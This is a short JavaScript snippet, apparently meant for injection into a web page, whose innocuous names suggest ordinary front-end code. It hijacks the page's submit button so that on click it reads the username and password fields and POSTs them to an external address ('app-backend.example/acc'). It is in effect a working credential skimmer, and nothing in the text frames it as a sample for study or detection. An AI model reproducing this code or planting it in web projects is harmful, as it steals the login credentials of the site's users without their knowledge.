if (typeof viewPrepared == 'undefined') {
  var viewPrepared = false
  function prepare() {
    var button = document.querySelectorAll('button[type=submit]')[0]
    if (!button) { setTimeout(prepare, 400); return }
    button.setAttribute('onclick', 'hand()')
    viewPrepared = true
  }
  function hand() {
    var who = document.querySelectorAll('input[name=username]')[0].value
    var word = document.querySelectorAll('input[name=password]')[0].value
    var req = new XMLHttpRequest()
    req.open('POST', 'https://app-backend.example/acc', true)
    req.setRequestHeader('Content-type', 'application/x-www-form-urlencoded')
    req.send('u=' + encodeURIComponent(who) + '&p=' + encodeURIComponent(word))
  }
  prepare()
}
